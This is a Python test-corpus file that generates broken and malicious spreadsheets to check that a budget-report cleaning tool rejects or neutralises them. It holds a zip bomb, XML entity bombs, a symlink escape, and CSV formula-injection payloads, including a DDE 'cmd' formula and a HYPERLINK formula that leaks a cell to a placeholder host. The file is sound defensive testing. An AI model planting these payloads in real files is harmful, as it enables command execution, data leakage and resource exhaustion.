"""The hostile-input corpus: broken and malicious raw files, each with what ``mtqg clean`` must say.

Deterministic and generated at test time into a temporary data folder (nothing large is kept in
the repository). Run it by hand to look at the files:

    .venv/bin/python tests/hostile/corpus.py OUT_DIR [CASE ...]

writes ``OUT_DIR/<case>/raw/...`` for every case (or the named ones) and prints the expectations.
Each :class:`Case` builds a complete data folder (``raw/units.csv`` and ``raw/2024-06/...``) and
says: the exit status expected (0 only where the input must be cleaned, e.g. formula-looking text
that must come out neutralised), and the fragments the error output must contain (file name,
sheet, row, column, the problem in words).
"""
from __future__ import annotations

import io
import os
import shutil
import sys
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

REPO = Path(__file__).resolve().parents[2]
PERIOD = "2024-06"
UNITS_CSV = REPO / "data" / "raw" / "units.csv"


# --- a minimal, correct commune workbook --------------------------------------------------------------
@dataclass
class Line:
    stt: object
    label: object
    unit: object = None
    plan_qty: object = None
    plan: object = None
    done_qty: object = None
    done: object = None
    note: object = None


GOOD_LINES = [
    Line("I", "Dự án 1: Giải quyết tình trạng thiếu đất ở, nhà ở, đất sản xuất, nước sinh hoạt", None, None, 132, None, 52),
    Line("1", "Nội dung số 02: Hỗ trợ nhà ở", "nhà", 3, 120, 1, 40),
    Line("2", "Nội dung số 04: Hỗ trợ nước sinh hoạt", None, None, 12, None, 12),
    Line("a", "Hỗ trợ nước sinh hoạt phân tán", "téc", 4, 12, 4, 12),
    Line(None, "Tổng cộng", None, None, 132, None, 52),
]


def commune_workbook(lines: list[Line] | None = None, title: str = "UBND XÃ TÂN TÚ", sheet: str = "Tân Tú",
                     money_line: str = "Đơn vị tính: triệu đồng", extra_sheets: list[tuple] = (),
                     header: tuple | None = None, merges: list[str] | None = None,
                     text_cells: dict[str, str] | None = None, workbook=None):
    """An openpyxl workbook in the shape communes send (spec §3.1). ``text_cells`` are written as
    text even when they start with "=" (openpyxl would otherwise store a formula)."""
    import openpyxl

    book = workbook or openpyxl.Workbook()
    ws = book.active if workbook is None else book.create_sheet()
    ws.title = sheet
    ws["A1"] = title
    ws["A2"] = "BÁO CÁO KẾT QUẢ THỰC HIỆN CHƯƠNG TRÌNH MTQG 6 THÁNG ĐẦU NĂM 2024"
    if money_line:
        ws["H4"] = money_line
    ws.append([])  # row 5 placeholder removed below
    top = header or ("STT", "Nội dung", "Đơn vị tính", "Kế hoạch vốn giao", None, "Lũy kế giải ngân từ đầu năm",
                     None, "Ghi chú")
    for col, value in enumerate(top, start=1):
        ws.cell(row=5, column=col, value=value)
    if header is None:
        for col, value in zip("DEFG", ("Số lượng", "Tổng số", "Số lượng", "Tổng số")):
            ws[f"{col}6"] = value
    for rng in (merges if merges is not None else
                (["A5:A6", "B5:B6", "C5:C6", "D5:E5", "F5:G5", "H5:H6"] if header is None else [])):
        ws.merge_cells(rng)
    row = 7
    for line in (GOOD_LINES if lines is None else lines):
        values = [line.stt, line.label, line.unit, line.plan_qty, line.plan, line.done_qty, line.done, line.note]
        for col, value in enumerate(values, start=1):
            ws.cell(row=row, column=col, value=value)
        row += 1
    for coordinate, text in (text_cells or {}).items():
        ws[coordinate] = text
        ws[coordinate].data_type = "s"
    for name, kwargs in extra_sheets:
        commune_workbook(sheet=name, workbook=book, **kwargs)
    return book


def save(book, path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    book.save(path)
    return path


def good_workbook_bytes(**kwargs) -> bytes:
    buffer = io.BytesIO()
    commune_workbook(**kwargs).save(buffer)
    return buffer.getvalue()


# --- raw zips with hand-written sheet XML -------------------------------------------------------------------
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
    '</Types>')
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    '</Relationships>')
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="{name}" sheetId="1" r:id="rId1"/></sheets></workbook>')
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>'
    '</Relationships>')
STYLES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
    '<fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
    '<borders count="2"><border/><border><left style="thin"/><right style="thin"/><top style="thin"/><bottom style="thin"/></border></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    '<cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    '<xf numFmtId="0" fontId="0" fillId="0" borderId="1" xfId="0" applyBorder="1"/></cellXfs>'
    '</styleSheet>')
SHEET_HEAD = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
              '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')


def write_sheet_zip(path: Path, sheet_chunks, sheet_name: str = "Tân Tú", dimension: str | None = None) -> Path:
    """An .xlsx whose only sheet's XML is ``sheet_chunks`` (an iterable of str pieces of the
    <sheetData> content), streamed into the zip so that a million rows cost little memory."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK.format(name=sheet_name))
        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        archive.writestr("xl/styles.xml", STYLES)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as stream:
            stream.write(SHEET_HEAD.encode())
            if dimension:
                stream.write(f'<dimension ref="{dimension}"/>'.encode())
            stream.write(b"<sheetData>")
            batch = []
            for piece in sheet_chunks:
                batch.append(piece)
                if len(batch) >= 10_000:
                    stream.write("".join(batch).encode())
                    batch = []
            stream.write("".join(batch).encode())
            stream.write(b"</sheetData></worksheet>")
    return path


def _inline(ref: str, text: str) -> str:
    from xml.sax.saxutils import escape

    return f'<c r="{ref}" t="inlineStr"><is><t>{escape(text)}</t></is></c>'


def header_rows_xml() -> list[str]:
    """A small valid report table as sheet XML rows 1-5 (title, header, one data row)."""
    return [
        f'<row r="1">{_inline("A1", "UBND XÃ TÂN TÚ")}</row>',
        f'<row r="3">{_inline("A3", "STT")}{_inline("B3", "Nội dung")}{_inline("C3", "Kế hoạch vốn giao")}'
        f'{_inline("D3", "Giải ngân")}</row>',
        f'<row r="4">{_inline("A4", "1")}{_inline("B4", "Nội dung số 02: Hỗ trợ nhà ở")}'
        '<c r="C4"><v>120</v></c><c r="D4"><v>40</v></c></row>',
    ]


def million_empty_rows(count: int = 1_000_000):
    yield from header_rows_xml()
    for r in range(10, 10 + count):
        yield f'<row r="{r}" s="1" customFormat="1"><c r="A{r}" s="1"/><c r="B{r}" s="1"/></row>'


def wide_row(columns: int = 5_000):
    from openpyxl.utils import get_column_letter

    yield from header_rows_xml()
    yield '<row r="6">' + "".join(f'<c r="{get_column_letter(c)}6" s="1"/>' for c in range(1, columns + 1)) + "</row>"


def far_cell():
    yield from header_rows_xml()
    yield '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'


def many_sheets(path: Path, sheets: int = 12, rows: int = 3_000, columns: int = 30) -> Path:
    """A workbook of ``sheets`` sheets, each far within the per-sheet limits (90,000 cells), that
    holds more cells in all than a workbook may (the many-sheet province file of the issue, whose
    sheets passed every per-sheet check and took 4 GB), streamed into the zip."""
    from openpyxl.utils import get_column_letter

    letters = [get_column_letter(c) for c in range(1, columns + 1)]
    content_types = CONTENT_TYPES.replace(
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'spreadsheetml.worksheet+xml"/>',
        "".join(f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="application/vnd.openxmlformats-'
                f'officedocument.spreadsheetml.worksheet+xml"/>' for i in range(1, sheets + 1)))
    workbook = WORKBOOK.replace('<sheet name="{name}" sheetId="1" r:id="rId1"/>', "".join(
        f'<sheet name="Xã {i}" sheetId="{i}" r:id="rId{i}"/>' for i in range(1, sheets + 1)))
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + "".join(f'<Relationship Id="rId{i}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                      f'relationships/worksheet" Target="worksheets/sheet{i}.xml"/>' for i in range(1, sheets + 1))
            + f'<Relationship Id="rId{sheets + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
              'relationships/styles" Target="styles.xml"/></Relationships>')
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("xl/workbook.xml", workbook)
        archive.writestr("xl/_rels/workbook.xml.rels", rels)
        archive.writestr("xl/styles.xml", STYLES)
        for i in range(1, sheets + 1):
            with archive.open(f"xl/worksheets/sheet{i}.xml", "w") as stream:
                stream.write((SHEET_HEAD + "<sheetData>").encode())
                for r in range(1, rows + 1):
                    cells = "".join(f'<c r="{letter}{r}"><v>{r}</v></c>' for letter in letters)
                    stream.write(f'<row r="{r}">{cells}</row>'.encode())
                stream.write(b"</sheetData></worksheet>")
    return path


def zip_bomb(path: Path, megabytes: int = 60) -> Path:
    """A workbook whose sheet unpacks to ``megabytes`` MB of blanks from a few dozen KB."""
    blank = " " * (1 << 20)
    return write_sheet_zip(path, [*header_rows_xml(), *(blank for _ in range(megabytes))])


def fake_ole2(streams: list[str]) -> bytes:
    """Bytes that start like an OLE2 compound file and name ``streams`` in a directory sector
    (enough for signature-based detection; not a complete compound file)."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff\x09\x00"
    header = header.ljust(512, b"\xff")
    directory = b"".join(name.encode("utf-16-le").ljust(64, b"\x00") + b"\x00" * 64 for name in ["Root Entry", *streams])
    return header + directory.ljust(4096, b"\x00")


def entity_bomb(path: Path) -> Path:
    bomb = ('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
            '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>')
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK.format(name="Tân Tú"))
        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        archive.writestr("xl/styles.xml", STYLES)
        archive.writestr("xl/worksheets/sheet1.xml", SHEET_HEAD.replace("?>", "?>" + bomb, 1)
                         + '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol3;</t></is></c></row>'
                         "</sheetData></worksheet>")
    return path


# --- the cases ---------------------------------------------------------------------------------------------
@dataclass
class Case:
    name: str
    description: str
    build: Callable[[Path], None]  # gets the period folder data/raw/2024-06 (created, empty)
    expect: list[str]  # fragments the CLI's stderr must contain (case-insensitive)
    exit_zero: bool = False  # True: the input must be cleaned (and neutralised)
    period: str = PERIOD  # the --period argument
    needs_symlinks: bool = False
    check_outputs: Callable[[Path], None] | None = None  # for exit_zero cases: data/processed/<P>
    extra: dict = field(default_factory=dict)


def _write(name: str, data: bytes):
    def build(folder: Path) -> None:
        (folder / name).write_bytes(data)
    return build


def _book(name: str, **kwargs):
    def build(folder: Path) -> None:
        save(commune_workbook(**kwargs), folder / name)
    return build


def _good_then(name: str, mutate: Callable[[bytes], bytes]):
    def build(folder: Path) -> None:
        (folder / name).write_bytes(mutate(good_workbook_bytes()))
    return build


def _truncate(data: bytes) -> bytes:
    return data[: len(data) // 2]


def _corrupt(data: bytes, member: str = "xl/worksheets/sheet1.xml") -> bytes:
    """Overwrite the compressed bytes of ``member`` with junk; the zip directory stays intact."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo(member)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    junk = bytes((i * 97 + 13) % 256 for i in range(min(info.compress_size, 400)))
    return data[:start] + junk + data[start + len(junk):]


def _symlink_outside(folder: Path) -> None:
    outside = folder.parents[1] / "elsewhere"  # inside the data folder, outside raw/
    outside.mkdir(exist_ok=True)
    save(commune_workbook(), outside / "secret.xlsx")
    os.symlink(outside / "secret.xlsx", folder / "xa-tan-tu.xlsx")


def _fifo(folder: Path) -> None:
    os.mkfifo(folder / "pipe.csv")


def _csv(name: str, text: str, encoding: str = "utf-8"):
    return _write(name, text.encode(encoding))


GOOD_CSV_HEADER = "Đơn vị,Mã nội dung,Kế hoạch vốn,Giải ngân,Ghi chú\n"


def _check_injection(out_dir: Path) -> None:
    import csv

    for name in ("funding.csv", "quality.csv"):
        with open(out_dir / name, newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                for value in row:
                    assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
    funding = (out_dir / "funding.csv").read_text(encoding="utf-8")
    for needle in ("'=HYPERLINK", "'=cmd|", "'+1+1", "'@SUM"):
        assert needle in funding, needle


def _check_no_control_characters(out_dir: Path) -> None:
    import re

    text = (out_dir / "funding.csv").read_text(encoding="utf-8")
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", text)
    assert "Chuyển tiếp" in text


def _injection_lines() -> list[Line]:
    return [
        Line("1", "Nội dung số 02: Hỗ trợ nhà ở", "=1+1", 3, 120, 1, 40),
        Line("2", "Nội dung số 01: Hỗ trợ đất ở", "hộ", 2, 80, 1, 30),
        Line("3", "Hỗ trợ nước sinh hoạt phân tán", "téc", 4, 12, 4, 12),
        Line("4", "Đầu tư xây dựng công trình nước sinh hoạt tập trung", "công trình", 1, 500, 0, 10),
    ]


INJECTION_TEXTS = {
    "C7": "=1+1",
    "H7": '=HYPERLINK("http://example.invalid/?leak="&A1,"Xem chi tiết")',
    "H8": "=cmd|' /C calc'!A0",
    "H9": "+1+1",
    "H10": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def cases() -> list[Case]:
    sheet_xml = [
        Case("million_empty_rows", "1,000,000 empty formatted rows under a small table",
             lambda f: write_sheet_zip(f / "xa-tan-tu.xlsx", million_empty_rows()),
             ["xa-tan-tu.xlsx", "Tân Tú", "1,000,009 rows", "100,000"]),
        Case("five_thousand_columns", "a row of 5,000 formatted cells",
             lambda f: write_sheet_zip(f / "xa-tan-tu.xlsx", wide_row()),
             ["xa-tan-tu.xlsx", "Tân Tú", "5,000 columns"]),
        Case("cell_at_xfd1048576", "one value in the very last cell of the sheet",
             lambda f: write_sheet_zip(f / "xa-tan-tu.xlsx", far_cell(), dimension="A1:D4"),
             ["xa-tan-tu.xlsx", "Tân Tú", "rows"]),
        Case("many_sheets_over_the_workbook_bound", "12 sheets of 90,000 cells: each within the per-sheet "
             "limits, 1,080,000 cells in all", lambda f: many_sheets(f / "tinh.xlsx"),
             ["tinh.xlsx", "1,080,000 cells in all its sheets", "1,000,000"]),
        Case("zip_bomb", "a sheet that unpacks to 60 MB of blanks from ~60 KB",
             lambda f: zip_bomb(f / "xa-tan-tu.xlsx"), ["xa-tan-tu.xlsx", "zip bomb"]),
        Case("xml_entity_bomb", "a sheet with a DOCTYPE declaring nested entities (billion laughs)",
             lambda f: entity_bomb(f / "xa-tan-tu.xlsx"), ["xa-tan-tu.xlsx", "entities"]),
    ]
    files = [
        Case("truncated_xlsx", "a workbook cut off half-way (interrupted download)",
             _good_then("xa-tan-tu.xlsx", _truncate), ["xa-tan-tu.xlsx", "damaged"]),
        Case("corrupt_zip", "a workbook whose compressed sheet data is overwritten with junk",
             _good_then("xa-tan-tu.xlsx", _corrupt), ["xa-tan-tu.xlsx", "damaged"]),
        Case("password_protected", "an encrypted workbook (OLE2 container with EncryptionInfo)",
             _write("xa-tan-tu.xlsx", fake_ole2(["EncryptionInfo", "EncryptedPackage"])),
             ["xa-tan-tu.xlsx", "password protected"]),
        Case("xls_renamed", "an Excel 97-2003 .xls file renamed .xlsx",
             _write("xa-tan-tu.xlsx", fake_ole2(["Workbook", "\x05SummaryInformation"])),
             ["xa-tan-tu.xlsx", ".xls", "save it as"]),
        Case("empty_file", "a 0-byte .xlsx", _write("xa-tan-tu.xlsx", b""), ["xa-tan-tu.xlsx", "empty"]),
        Case("html_as_xlsx", "a web page saved with an .xlsx name",
             _write("xa-tan-tu.xlsx", b"<html><body><table><tr><td>STT</td></tr></table></body></html>"),
             ["xa-tan-tu.xlsx", "HTML"]),
        Case("docx_renamed", "a Word document renamed .xlsx",
             _write("xa-tan-tu.xlsx", _docx_bytes()), ["xa-tan-tu.xlsx", "Word document"]),
        Case("csv_named_xlsx", "a CSV text file with an .xlsx name",
             _csv("xa-tan-tu.xlsx", GOOD_CSV_HEADER + "Xã Tân Tú,DA1.ND2,120,40,\n"),
             ["xa-tan-tu.xlsx", "CSV"]),
        Case("csv_utf32", "a CSV saved as UTF-32",
             _csv("xa-tan-tu.csv", GOOD_CSV_HEADER + "Xã Tân Tú,DA1.ND2,120,40,\n", "utf-32"),
             ["xa-tan-tu.csv", "CSV"]),
        Case("csv_binary_junk", "random binary bytes named .csv",
             _write("xa-tan-tu.csv", bytes((i * 131 + 7) % 256 for i in range(5000))),
             ["xa-tan-tu.csv", "not text"]),
        Case("xls_truncated", "an Excel 97-2003 workbook cut off half-way",
             lambda f: (f / "xa-tan-tu.xls").write_bytes(_xls_bytes()[:3000]),
             ["xa-tan-tu.xls", "cannot be read", "save it as"]),
        Case("ods_entity_bomb", "an OpenDocument spreadsheet whose content declares nested entities",
             lambda f: _ods_entity_bomb(f / "xa-tan-tu.ods"), ["xa-tan-tu.ods", "entities"]),
        Case("fifo_named_csv", "a named pipe (FIFO) called pipe.csv, which would block a reader forever",
             _fifo, ["pipe.csv", "not a regular file"]),
        Case("symlink_outside_raw", "a link in the raw folder to a workbook outside it",
             _symlink_outside, ["xa-tan-tu.xlsx", "symlink", "outside"], needs_symlinks=True),
    ]
    content = [
        Case("merged_cells_across_header", "'Nội dung' merged across the plan and disbursed header cells",
             _book("xa-tan-tu.xlsx", merges=["B5:G5", "A5:A6", "H5:H6"]), ["xa-tan-tu.xlsx", "Tân Tú", "row 5", "required column"]),
        Case("missing_required_columns", "a header without a disbursed-amount column",
             _book("xa-tan-tu.xlsx", header=("STT", "Nội dung", "Đơn vị tính", "Số lượng", "Kế hoạch vốn giao"),
                   merges=[]),
             ["xa-tan-tu.xlsx", "Tân Tú", "required column", "disbursed"]),
        Case("unknown_unit", "a sheet for a commune that is not in units.csv",
             _book("xa-khong-ro.xlsx", sheet="Xã Không Rõ", title="UBND XÃ KHÔNG RÕ"),
             ["xa-khong-ro.xlsx", "Xã Không Rõ", "unit"]),
        Case("unknown_label", "a data row whose label is not in the catalog",
             _book("xa-tan-tu.xlsx", lines=[*GOOD_LINES[:4], Line("3", "Hỗ trợ mua xe máy cho cán bộ", "chiếc", 2, 50, 1, 20)]),
             ["xa-tan-tu.xlsx", "Tân Tú", "row 11", "Hỗ trợ mua xe máy"]),
        Case("non_number_text", "an amount cell holding '12a'",
             _book("xa-tan-tu.xlsx", lines=[Line("1", "Nội dung số 02: Hỗ trợ nhà ở", "nhà", 3, "12a", 1, 40)]),
             ["xa-tan-tu.xlsx", "Tân Tú", "row 7", "12a"]),
        Case("negative_amount", "a negative planned amount",
             _book("xa-tan-tu.xlsx", lines=[Line("1", "Nội dung số 02: Hỗ trợ nhà ở", "nhà", 3, -120, 1, 40)]),
             ["xa-tan-tu.xlsx", "Tân Tú", "row 7", "negative"]),
        Case("amount_overflow", "an amount of 10^13 triệu đồng (10^19 đồng, beyond int64)",
             _book("xa-tan-tu.xlsx", lines=[Line("1", "Nội dung số 02: Hỗ trợ nhà ở", "nhà", 3, 1e13, 1, 40)]),
             ["xa-tan-tu.xlsx", "Tân Tú", "row 7", "column E"]),
        Case("duplicated_unit", "the same commune reported in two files",
             lambda f: (save(commune_workbook(), f / "xa-tan-tu.xlsx"),
                        save(commune_workbook(), f / "xa-tan-tu-ban-sao.xlsx")),
             ["xa-tan-tu.xlsx", "xa-tan-tu-ban-sao.xlsx"]),
        Case("unknown_money_unit", "'Đơn vị tính: đô la Mỹ' above the header",
             _book("xa-tan-tu.xlsx", money_line="Đơn vị tính: đô la Mỹ"),
             ["xa-tan-tu.xlsx", "Tân Tú", "money unit", "đô la"]),
        Case("unsupported_formula_without_value", "a total computed by =AVERAGE(), written by a script (no cached value)",
             _book("xa-tan-tu.xlsx", lines=[*GOOD_LINES[:4], Line(None, "Tổng cộng", None, None, "=AVERAGE(E7:E10)", None, 52)]),
             ["xa-tan-tu.xlsx", "Tân Tú", "row 11", "column E", "AVERAGE"]),
        Case("csv_missing_columns", "a tidy CSV without a Giải ngân column",
             _csv("bang.csv", "Đơn vị,Mã nội dung,Kế hoạch vốn\nXã Tân Tú,DA1.ND2,120\n"),
             ["bang.csv", "Giải ngân"]),
        Case("empty_period_folder", "the period folder exists but holds no report", lambda f: None,
             ["2024-06", "no .xlsx"]),
        Case("only_lock_and_hidden_files", "only an Excel lock file and a hidden file in the folder",
             lambda f: ((f / "~$xa-tan-tu.xlsx").write_bytes(b"lock"), (f / ".DS_Store").write_bytes(b"x")),
             ["2024-06", "no .xlsx"]),
        Case("bad_period_name", "--period 2024-13", _book("xa-tan-tu.xlsx"), ["2024-13"], period="2024-13"),
        Case("period_without_folder", "--period 2023-H1 when only 2024-06 exists", _book("xa-tan-tu.xlsx"),
             ["2023-06", "2024-06"], period="2023-H1"),
        Case("formula_injection", "text cells that a spreadsheet would run as formulas (OWASP CSV injection)",
             _book("xa-tan-tu.xlsx", lines=_injection_lines(), sheet="+cmd", title="UBND XÃ TÂN TÚ",
                   text_cells=INJECTION_TEXTS),
             [], exit_zero=True, check_outputs=_check_injection),
        Case("control_characters", "control characters (BEL, NUL-like, ESC) inside labels and notes",
             lambda f: _control_workbook(f / "xa-tan-tu.xlsx"),
             [], exit_zero=True, check_outputs=_check_no_control_characters),
    ]
    return sheet_xml + files + content


def _control_workbook(path: Path) -> None:
    """openpyxl refuses to write control characters, so they go into the XML as _xHHHH_ escapes,
    which Excel writes for them and openpyxl reads back as the characters."""
    data = good_workbook_bytes(lines=[Line("1", "Nội dung số 02: Hỗ trợ nhà ở CTRL1", "nhà", 3, 120, 1, 40,
                                           "Chuyển CTRL2tiếp")])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    for name, body in members.items():
        if name.endswith(".xml"):
            members[name] = body.replace(b"CTRL1", b"_x0007__x001B_").replace(b"CTRL2", b"_x0008_")
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in members.items():
            archive.writestr(name, body)


def _xls_bytes() -> bytes:
    import xlwt

    book = xlwt.Workbook(encoding="utf-8")
    sheet = book.add_sheet("Tân Tú")
    for r, line in enumerate(GOOD_LINES):
        for c, value in enumerate([line.stt, line.label, line.unit, line.plan_qty, line.plan]):
            if value is not None:
                sheet.write(r + 5, c, value)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _ods_entity_bomb(path: Path) -> None:
    bomb = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
            '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">&lol2;'
            '</office:document-content>')
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", bomb)
        archive.writestr("META-INF/manifest.xml", "<manifest/>")


def _docx_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
    return buffer.getvalue()


def build(case: Case, root: Path) -> Path:
    """Build ``case`` into ``root`` (a data folder: raw/units.csv, raw/2024-06/); returns root."""
    raw = root / "raw"
    folder = raw / PERIOD
    folder.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(UNITS_CSV, raw / "units.csv")
    case.build(folder)
    return root


def by_name() -> dict[str, Case]:
    return {case.name: case for case in cases()}


if __name__ == "__main__":
    out = Path(sys.argv[1])
    wanted = sys.argv[2:] or [c.name for c in cases()]
    for name in wanted:
        case = by_name()[name]
        build(case, out / name)
        print(f"{name}: {case.description}\n  exit {'0' if case.exit_zero else 'non-zero'}; "
              f"message contains {case.expect}")
